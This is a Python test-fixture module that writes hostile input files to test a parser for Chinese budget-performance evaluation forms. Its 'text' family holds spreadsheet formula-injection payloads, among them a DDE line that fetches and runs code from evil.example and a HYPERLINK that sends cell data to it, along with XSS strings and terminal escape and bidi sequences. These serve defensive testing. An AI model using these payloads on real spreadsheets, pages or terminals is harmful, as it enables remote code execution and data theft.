"""Hostile inputs for the tests: named cases, each writing one file, made from the shipped examples.

A case is a name, a family and a function giving the file's bytes. To add one, append a `Case` to
CASES (or a loop that appends many); the tests pick cases by family, so a new case of an existing
family is tested without touching a test:

    CASES.append(Case("text.formula_in_name", "text", lambda: SELF_EVALUATION.replace("就业", "=HYPERLINK(…)")))

Families: "number" (absurd numbers in cells), "separator" (the tab separators garbled). Text attacks
in names and goals (formula injection, HTML, control characters) belong to a family "text" (issue 16,
item 5). Files that are not regular files (a FIFO, a device) are made by the tests themselves.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def _example(name: str, lines: int | None = None) -> str:
    text = (EXAMPLES / name).read_text(encoding="utf-8")
    return "".join(text.splitlines(keepends=True)[:lines]) if lines else text


# Small bases keep the tests fast: two self-evaluations (a funds table with 执行率 and 得分, indicators
# with targets, actuals, weights and scores) and the four tracking forms.
SELF_EVALUATION = _example("putuo_2024_self_evaluation.txt", 65)
TRACKING = _example("minhang_2024_tracking.txt")
BASES = {"self_evaluation": SELF_EVALUATION, "tracking": TRACKING}


@dataclass(frozen=True)
class Case:
    name: str  # unique; the file is named after it
    family: str
    make: Callable[[], str | bytes]
    suffix: str = ".txt"

    def write(self, folder: Path) -> Path:
        path = Path(folder) / f"{self.name}{self.suffix}"
        data = self.make()
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path


# --- absurd numbers ---------------------------------------------------------------------------

ABSURD_NUMBERS = {
    "1e308": "1e308",
    "400_digits": "9" * 400,
    "400_digits_decimal": "9" * 400 + ".99",
    "nan": "NaN",
    "inf": "inf",
    "minus_inf": "-inf",
    "1e-400": "1e-400",
    "tiny_decimal": "0." + "0" * 400 + "1",
    "16_digits": "1234567890123456",
}
# A number in a cell: 103.15, 90.00 in ≥90.00(%), 10 — not the digits of a date or a name.
_NUMBER = re.compile(r"(?<![\d.])\d+(?:\.\d+)?(?![\d年月日])")


def replace_numbers(text: str, value: str, every: int = 1) -> str:
    """Every `every`-th number of the text replaced by `value` (1: all of them)."""
    count = -1

    def sub(m: re.Match) -> str:
        nonlocal count
        count += 1
        return value if count % every == 0 else m.group()

    return _NUMBER.sub(sub, text)


def workbook(text: str, value: float, number_format: str) -> bytes:
    """The text export as an .xlsx sheet, every number cell holding `value` under `number_format`."""
    import io

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for line in text.splitlines():
        ws.append([value if _NUMBER.fullmatch(cell) else cell for cell in line.split("\t")])
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, float):
                cell.number_format = number_format
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# Numbers Excel itself cannot hold (inf, nan) but a generator can write, shown under formats with decimals.
ABSURD_CELLS = {"1e308": (1e308, "#,##0.00"), "minus_1e300": (-1e300, "0.00"), "inf": (float("inf"), "0.00"),
                "nan": (float("nan"), "0.00%")}


# --- garbled separators -----------------------------------------------------------------------

def _mixed(text: str, seed: int = 16) -> str:
    rng = random.Random(seed)
    return "".join(rng.choice([" ", "  ", "   ", "\u3000", "｜", " ｜ "]) if c == "\t" else c for c in text)


GARBLES: dict[str, Callable[[str], str]] = {
    "spaces": lambda t: t.replace("\t", "  "),
    "fullwidth_spaces": lambda t: t.replace("\t", "\u3000"),
    "fullwidth_bar": lambda t: t.replace("\t", "｜"),
    "mixed": _mixed,
}


# --- the cases --------------------------------------------------------------------------------

CASES: list[Case] = []
for _base, _text in BASES.items():
    for _label, _value in ABSURD_NUMBERS.items():
        CASES.append(Case(f"number.{_label}.all.{_base}", "number",
                          lambda t=_text, v=_value: replace_numbers(t, v)))
        if _base == "self_evaluation":  # one cell in three: the others keep the form readable
            CASES.append(Case(f"number.{_label}.some.{_base}", "number",
                              lambda t=_text, v=_value: replace_numbers(t, v, every=3)))
    for _label, (_cell, _format) in ABSURD_CELLS.items():
        if _base == "self_evaluation":
            CASES.append(Case(f"number.{_label}.xlsx.{_base}", "number",
                              lambda t=_text, v=_cell, f=_format: workbook(t, v, f), suffix=".xlsx"))
    for _label, _garble in GARBLES.items():
        CASES.append(Case(f"separator.{_label}.{_base}", "separator", lambda t=_text, g=_garble: g(t)))


# --- hostile text (issue 16, items 2-5) ---------------------------------------------------------
# Text written to attack whoever opens the outputs: a spreadsheet (formulas), a Markdown renderer with
# HTML on (tags, links, images, comments, table breakers), a terminal (ESC/CSI/C1 sequences, bidi
# controls, rich markup). Each payload goes into the project name, the unit, the goal, an indicator's
# name and target and a deviation text of the first form of a base, at the start of each cell (a
# formula must start the cell); the base's other forms stay clean. No tab or newline in a payload: in a
# text export they are the table's own separators.

HOSTILE_TEXT = {
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "formula_cmd": "-1+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_plus": "+1+1",
    "formula_dde": "=cmd|' /C powershell IEX(wget evil.example)'!A0",
    "script": "<script>alert('xss')</script>",
    "iframe": '<iframe src="http://evil.example/frame"></iframe>',
    "svg_onload": "<svg onload=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "javascript_link": "[点我](javascript:alert(1))",
    "remote_image": "![跟踪](http://evil.example/track.png)",
    "html_comment": "<!-- 隐藏 --> 可见",
    "autolinks": "<http://evil.example/> www.evil.example mail@evil.example",
    "markdown_breakers": "| 列 | # 标题 `代码` **粗** _斜_ > 引用 ~~删~~ [^1]",
    "backticks": "```` `` ` ",
    "esc_sequences": "\x1b[31m红色\x1b[0m\x1b[2J\x1b]0;标题\x07\x1b[1A",
    "c1_csi": "\x9b31m\x9b2J\x9d0;标题\x9c\x85",
    "bidi": "\u202e反向\u202c \u202aa\u202b\u202d \u2066x\u2067y\u2068z\u2069 \u200e\u200f\u061c",
    "c0_controls": "a\x08\x08b\x7fc\x0bd\x0ce\x01f\x1fg",  # no NUL: a text export with NUL is refused as binary
    "rich_markup": "[red]红[/red][/] [link=http://evil.example]链接[/link] [bold",
}


def inject(text: str, payload: str, base: str) -> str:
    """`payload` at the start of the name, unit, goal, an indicator's name and target and a deviation
    text of the base's first form."""
    targets = {
        "self_evaluation": ["\t新疆支青稳定专项经费", "实施单位\t上海市普陀区", "\t按计划对新疆支青", "\t帮困对象享受人次",
                            "\t≥300.00(人次)", "\t因客观原因"],
        "tracking": ["\t办公经费补贴", "实施单位\t上海市闵行区事业单位福利中心", "\t为贯彻落实", "\t培训班开展班次",
                     "\t=40.00(班次)"],
    }[base]
    for old in targets:  # "…\tcell": the payload goes before the cell's text (a target's without a space)
        head, _, cell = old.rpartition("\t")
        text = text.replace(old, f"{head}\t{payload}{'' if cell.startswith(('≥', '=')) else ' '}{cell}", 1)
    return text


for _base, _text in BASES.items():
    for _label, _payload in HOSTILE_TEXT.items():
        CASES.append(Case(f"text.{_label}.{_base}", "text", lambda t=_text, p=_payload, b=_base: inject(t, p, b)))
# The file's own name: it shows in every 位置/where column, the terminal and the Markdown.
CASES.append(Case("text.file_name_\x1b[31m[red]<img src=x onerror=alert(1)>\u202e=cmd|'!A0", "text",
                  lambda: inject(SELF_EVALUATION, "=1+1", "self_evaluation")))


def cases(family: str | None = None) -> list[Case]:
    return [c for c in CASES if family is None or c.family == family]


def write(folder: Path, family: str | None = None) -> list[Path]:
    """Write the cases of a family (all cases when None) into `folder`; their paths, in CASES order."""
    Path(folder).mkdir(parents=True, exist_ok=True)
    return [c.write(folder) for c in cases(family)]
